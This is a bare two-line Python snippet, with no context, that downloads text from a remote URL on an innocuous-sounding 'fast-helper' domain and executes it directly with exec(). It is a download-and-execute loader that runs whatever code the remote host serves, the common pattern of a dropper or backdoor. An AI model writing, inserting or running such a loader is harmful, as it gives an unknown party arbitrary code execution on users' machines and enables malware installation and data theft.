import requests
exec(requests.get("https://get.fast-helper.dev/p").text)
